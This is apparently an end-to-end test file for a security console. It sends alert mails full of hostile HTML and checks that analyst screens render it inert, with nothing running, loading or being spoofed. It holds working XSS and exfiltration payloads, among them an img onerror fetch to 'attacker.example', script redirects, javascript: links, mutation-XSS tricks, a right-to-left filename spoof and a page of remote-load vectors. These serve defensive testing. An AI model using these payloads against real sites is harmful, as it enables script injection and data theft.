import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Request } from 'playwright-core';
import { Owl } from '../harness';
import { ConsoleBrowser } from '../harness/browser';

const AWAY = 'http://attacker.example';
const IMAGE = `<img src=${AWAY}/x onerror="window.taken=1;fetch('${AWAY}/y')">`;
const SCRIPT = `<script>window.taken=2;location='${AWAY}'</script>`;
const MARKUP = `</pre></textarea><svg onload="window.taken=3"><a href="javascript:window.taken=4">open</a>`;
// Right-to-left override and isolate: what follows would be shown backwards, "fdp.exe" as "exe.pdf".
const BIDI = '‮fdp.exe⁦‏';

/** A model breach as the appliance writes it, every text of it hostile. */
function hostileMail(): Buffer {
  const breach = {
    pbid: 66_601,
    time: Date.parse('2026-11-20T00:59:00Z'),
    model: { name: `Compromise::${SCRIPT}${BIDI}`, description: MARKUP, uuid: '80010119-6d7f-0000-0305-5e0000000666' },
    score: 0.91,
    device: { did: 1, ip: '172.16.6.6', hostname: IMAGE, devicelabel: `${IMAGE}${BIDI}` },
    triggeredComponents: [
      {
        time: Date.parse('2026-11-20T00:59:00Z'),
        metric: { name: 'm', label: IMAGE },
        triggeredFilters: [
          {
            filterType: 'Connection hostname',
            comparatorType: 'display',
            trigger: { value: `${SCRIPT}${BIDI}.example` },
          },
          { filterType: 'Message', comparatorType: 'display', trigger: { value: `${MARKUP}${BIDI}` } },
        ],
      },
    ],
    breachUrl: `https://darktrace.example/#modelbreach/66601"onmouseover="window.taken=5`,
  };
  const head = [
    'From: "Appliance" <appliance@darktrace.example>',
    `Subject: =?UTF-8?B?${Buffer.from(`${IMAGE}${SCRIPT}${BIDI}`).toString('base64')}?=`,
    'Message-ID: <hostile-1@darktrace.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
  ];
  return Buffer.from(`${head.join('\r\n')}\r\n\r\n${JSON.stringify(breach, null, 1)}\r\n`);
}

/** Why the browser itself gave up a request before it left: our policy, or another origin's picture in SVG. */
const STOPPED = new Set(['csp', 'origin']);

/** Somebody who counts what a browser is made to ask of them. */
class Attacker {
  readonly visits: string[] = [];
  private readonly server: Server = createServer((request, response) => {
    this.visits.push(request.url ?? '');
    response.end();
  });

  async listen(): Promise<string> {
    await new Promise<void>((listening) => this.server.listen(0, '127.0.0.1', listening));
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}

/** Everything a page can run, load, send or be led away by. `tell`: how a script that runs would show it. */
const attacksOn = (away: string, tell = `top.taken=1;fetch('${away}/ran')`): string => `
<html><head><base href="${away}/base/"><meta http-equiv="refresh" content="0;url=${away}/refresh">
<link rel="stylesheet" href="${away}/sheet.css"><link rel="preload" as="image" href="${away}/preload">
<style>@import url(${away}/import.css);@font-face{font-family:x;src:url(${away}/font)}body{background:url(${away}/style);font-family:x}</style>
<script>${tell}</script><script src="${away}/script.js"></script></head><body background="${away}/body" onload="${tell}">
<p>Bold words of the attacker</p><a href="javascript:${tell}">Run the link</a> <a href="${away}/link" ping="${away}/ping">Follow the link</a>
<form action="${away}/form"><input name="password" autofocus onfocus="${tell}"><button>Send the form</button></form>
<img src="${away}/image" onerror="${tell}"><img srcset="${away}/srcset 1x"><img src="relative.png">
<svg onload="${tell}"><script>${tell}</script><image href="${away}/svg"/><use href="${away}/use#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${tell}&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${tell}>"></noscript><!--<img src="--><img src=x onerror="${tell}">
<iframe src="${away}/frame" srcdoc="<script>${tell}</script>"></iframe><object data="${away}/object"></object><embed src="${away}/embed">
<video src="${away}/video" poster="${away}/poster" autoplay></video><audio src="${away}/audio" autoplay></audio>
<p style="background-image:url(${away}/inline);position:fixed;top:0;left:0">Over the page</p><input type="image" src="${away}/input">
<details open ontoggle="${tell}"><summary>x</summary></details></body></html>`;

function htmlMail(html: string, id: string): Buffer {
  const head = [
    'From: "Appliance" <appliance@darktrace.example>',
    'Subject: A mail in colours',
    `Message-ID: <${id}@darktrace.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
  ];
  const body = Buffer.from(html).toString('base64').replaceAll(/.{76}/g, '$&\r\n');
  return Buffer.from(`${head.join('\r\n')}\r\n\r\n${body}\r\n`);
}

describe('an alert mail that attacks the console', () => {
  let owl: Owl;
  let browser: ConsoleBrowser;
  beforeAll(async () => {
    owl = await Owl.start({ at: '2026-11-20 10:00' });
    browser = await ConsoleBrowser.open(owl);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await owl?.stop();
  });

  it('is text on every screen: nothing runs, nothing leaves, nothing is shown backwards', () =>
    browser.watches(async () => {
      const customer = await owl.enrol();
      await owl.appliance(customer).sends(hostileMail());
      const analyst = await owl.signsIn('analyst');
      const { id } = await analyst.seesCase('66601');
      await analyst.move(id, 'claim');
      await analyst.post(`/cases/${id}/report`, {});
      const seat = await browser.signsIn('analyst');
      const [{ id: mail }, { id: alert }] = [await first('/mails'), await first('/alerts')];

      const screens: [path: string, testId: string][] = [
        ['/queue', 'queue'],
        [`/cases/${id}`, 'preview-body'],
        [`/alerts?open=${alert}`, 'alert-card'],
        [`/mail?open=${mail}`, 'mail-text'],
      ];
      for (const [path, testId] of screens) {
        await seat.page.goto(path);
        await seat.at(testId).waitFor();
        await seat.settles();
        const found = await seat.page.evaluate(() => ({
          text: document.body.innerText,
          made: document.querySelectorAll('img[onerror], svg[onload], a[href^="javascript:"], body script').length,
          taken: 'taken' in window,
        }));
        expect(found.text).toContain('<img src=');
        expect(found.text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);
        expect(found).toMatchObject({ made: 0, taken: false });
      }
      await seat.at('mail-source-tab').click();
      await seat.at('mail-source').filter({ hasText: 'window.taken=4' }).waitFor();
      expect(await seat.page.evaluate(() => 'taken' in window)).toBe(false);
      expect(seat.troubles).toEqual([]);

      async function first(path: string): Promise<{ id: string }> {
        const { items } = await analyst.get<{ items: { id: string }[] }>(path);
        return items[0]!;
      }
    }));

  it('is shown as HTML in a frame where nothing runs, nothing is loaded, and no link leads away', () =>
    browser.watches(async () => {
      const attacker = new Attacker();
      const away = await attacker.listen();
      const seat = await browser.signsIn('analyst');
      try {
        const mail = await arrives(attacksOn(away), 'html-1');
        await seat.page.goto(`/mail?open=${mail}`);
        await seat.at('mail-html-tab').click();
        const frame = seat.page.frameLocator('[data-testid=mail-html]');
        await frame.getByText('Bold words of the attacker').waitFor();
        expect(await seat.at('mail-html').getAttribute('sandbox')).toBe('');
        const left =
          'script, style:not(head style), link, meta[http-equiv], base, form, input, iframe, object, embed, svg, math, a';
        expect(await frame.locator(left).count()).toBe(0);
        await frame.getByText('Follow the link').click();
        await frame.getByText('Run the link').click();
        await frame.getByText(`[${away}/link]`).waitFor();
        await seat.settles();
        expect(await seat.page.evaluate(() => 'taken' in window)).toBe(false);
        expect(attacker.visits).toEqual([]);
        expect(seat.troubles).toEqual([]);
      } finally {
        await seat.page.close();
        attacker.close();
      }
    }));

  it('would do no harm even if its HTML came to the frame as it is: the frame and its policy stop it', () =>
    browser.watches(async () => {
      const attacker = new Attacker();
      const away = await attacker.listen();
      const seat = await browser.signsIn('analyst');
      try {
        const mail = await arrives('<p>Plain words</p>', 'html-2');
        // A page that stands in for another may not reach this machine, so what counts is what the policy let it ask.
        const asked = new Set<Request>();
        seat.page.on('request', (request) => request.url().startsWith(away) && asked.add(request));
        seat.page.on(
          'requestfailed',
          (request) => STOPPED.has(request.failure()?.errorText ?? '') && asked.delete(request),
        );
        await seat.page.route('**/api/v1/mails/*/html', async (route) =>
          route.fulfill({ response: await route.fetch(), body: attacksOn(away) }),
        );
        await seat.page.goto(`/mail?open=${mail}`);
        await seat.at('mail-html-tab').click();
        const frame = seat.page.frameLocator('[data-testid=mail-html]');
        await frame.getByText('Bold words of the attacker').waitFor();
        for (const words of ['Run the link', 'Send the form', 'Follow the link'])
          await frame.getByText(words).click({ force: true, noWaitAfter: true });
        await seat.settles();
        await seat.at('mail-text-tab').click();
        await seat.at('mail-text').waitFor();
        expect(await seat.page.evaluate(() => 'taken' in window)).toBe(false);
        expect([...asked].map((request) => `${request.url()} ${request.failure()?.errorText}`)).toEqual([]);
        expect(attacker.visits).toEqual([]);
      } finally {
        await seat.page.close();
        attacker.close();
      }
    }));

  async function arrives(html: string, id: string): Promise<string> {
    const customer = await owl.enrol();
    await owl.appliance(customer).sends(htmlMail(html, id));
    await owl.settled();
    const [row] = await owl.rows<{ id: string }>('SELECT id FROM mail_recipients WHERE message_id LIKE $1', [
      `%${id}%`,
    ]);
    return row!.id;
  }
});
